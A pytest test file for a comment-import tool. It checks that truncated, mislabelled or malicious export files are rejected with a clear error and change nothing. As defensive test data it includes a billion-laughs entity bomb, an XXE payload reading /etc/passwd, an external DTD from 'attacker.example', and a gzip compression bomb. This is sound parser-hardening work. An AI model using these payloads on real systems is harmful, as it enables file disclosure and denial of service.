"""Files that are not what they claim: a clear error, and the database left as it was."""

from __future__ import annotations

import gzip
import json

import pytest

from tests.importers import fixtures
from tests.importers.conftest import table_counts

pytestmark = pytest.mark.usefixtures("site")

EMPTY = {"articles": 0, "comments": 0, "import_records": 0, "moderation_events": 0}

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE disqus [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<disqus xmlns="http://disqus.com" xmlns:dsq="http://disqus.com/disqus-internals">
<thread dsq:id="1"><id>a</id><link>https://n.example/a</link><title>&lol9;</title></thread>
<post dsq:id="2"><message>&lol9;</message><createdAt>2013-04-03T17:05:51Z</createdAt>
<author><name>x</name></author><thread dsq:id="1"/></post>
</disqus>
"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<rss xmlns:wp="http://wordpress.org/export/1.2/"><channel><item><wp:post_id>1</wp:post_id>
<wp:comment><wp:comment_id>1</wp:comment_id><wp:comment_content>&secret;</wp:comment_content>
<wp:comment_date_gmt>2014-02-07 09:13:44</wp:comment_date_gmt></wp:comment></item></channel></rss>
"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE disqus SYSTEM "http://attacker.example/evil.dtd">
<disqus xmlns="http://disqus.com"></disqus>
"""

# A DTD may follow comments of any length: the check reads the prolog to the root.
DTD_AFTER_LONG_COMMENT = (b'<?xml version="1.0"?>\n<!--' + b"x" * 200_000 + b"-->\n"
                          b'<!DOCTYPE disqus [<!ENTITY a "b">]>\n'
                          b'<disqus xmlns="http://disqus.com">&a;</disqus>\n')


def _truncated_disqus() -> bytes:
    data = fixtures.disqus_export()
    return data[: len(data) * 2 // 3]


def _remark42_line_not_json() -> bytes:
    good = fixtures.remark42_backup(gzipped=False)
    return gzip.compress(good + b'{"id": "c-9", "pid": \n')


CASES = [
    ("disqus", "truncated.xml", _truncated_disqus(), "truncated"),
    ("disqus", "laughs.xml", BILLION_LAUGHS, "billion laughs"),
    ("wordpress", "external.xml", EXTERNAL_ENTITY, "external-entity"),
    ("disqus", "external-dtd.xml", EXTERNAL_DTD, "declares a DTD"),
    ("disqus", "late-dtd.xml", DTD_AFTER_LONG_COMMENT, "declares a DTD"),
    ("disqus", "no-root.xml", b"<!--" + b"x" * (2 * 1024**2) + b"-->", "no root element"),
    ("disqus", "page.xml", b"<html><body><p>hello</p></body></html>", "not a Disqus export"),
    ("disqus", "wxr.xml", fixtures.wordpress_export(), "not a Disqus export"),
    ("wordpress", "disqus.xml", fixtures.disqus_export(), "not a WordPress export"),
    ("wordpress", "feed.xml", b'<rss version="2.0"><channel><title>t</title><item>'
     b"<title>x</title></item></channel></rss>", "not a WordPress export"),
    ("disqus", "garbage.xml", b"\x00\x01 not xml at all", "not well-formed"),
    ("remark42", "backup.gz", gzip.compress(b"<disqus></disqus>\n"), "not JSON"),
    ("remark42", "meta.gz", gzip.compress(b'{"hello": 1}\n'), "not a Remark42 backup"),
    ("remark42", "cut.gz", gzip.compress(fixtures.remark42_backup(gzipped=False))[:-40],
     "truncated gzip"),
    ("remark42", "bad-line.gz", _remark42_line_not_json(), "line 10 is not JSON"),
    ("moderation", "export.jsonl", b'{"type": "header", "format": "moderation-export", '
     b'"version": 1, "site": {}}\n{"type": "article", "external_id": "a"}\n', "no end line"),
    ("moderation", "future.jsonl", json.dumps({"type": "header", "format": "moderation-export",
                                               "version": 9}).encode() + b"\n", "version 9"),
    ("isso", "not.db", b"SQLite format 3\x00 but not really", "not a readable SQLite"),
]


@pytest.mark.parametrize(("format_name", "name", "data", "message"), CASES,
                         ids=[case[1] for case in CASES])
def test_bad_file_gives_a_clear_error_and_changes_nothing(app, write, run_import, format_name,
                                                          name, data, message):
    result = run_import(format_name, write(name, data), "--site", "news")
    assert result.exit_code == 1, result.output
    assert message in result.output and "nothing was imported" in result.output
    assert "Traceback" not in result.output
    assert table_counts(app) == EMPTY


def test_a_file_broken_after_many_batches_still_writes_nothing(app, write, run_import):
    # The check reads the whole file before the first batch is written.
    data = fixtures.disqus_export().replace(b"</disqus>", b"<post dsq:id='x'><message>")
    result = run_import("disqus", write("late.xml", data), "--site", "news", "--batch-size", "1")
    assert result.exit_code == 1 and "truncated" in result.output
    assert table_counts(app) == EMPTY


def test_a_compression_bomb_is_refused(app_factory, tmp_path, site):
    app = app_factory(IMPORT_MAX_EXPANDED_BYTES=4 * 1024**2)
    bomb = tmp_path / "backup.gz"
    # 64 MiB of one byte repeated: about 64 KiB of gzip, far beyond any export's ratio.
    with gzip.open(bomb, "wb", compresslevel=9) as handle:
        handle.write(b'{"version": 1, "users": [], "posts": []}\n')
        chunk = b"A" * (1024**2)
        for _ in range(64):
            handle.write(chunk)
    result = app.test_cli_runner().invoke(
        args=["moderation", "import", "remark42", str(bomb), "--site", "news"])
    assert result.exit_code == 1, result.output
    assert "compression bomb" in result.output
    assert table_counts(app) == EMPTY


def test_an_isso_look_alike_database_is_refused(app, tmp_path, run_import):
    import sqlite3

    path = tmp_path / "other.db"
    conn = sqlite3.connect(path)
    conn.execute("CREATE TABLE threads (id INTEGER PRIMARY KEY, uri TEXT, title TEXT)")
    conn.close()
    result = run_import("isso", str(path), "--site", "news")
    assert result.exit_code == 1 and "not Isso's" in result.output
    assert table_counts(app) == EMPTY
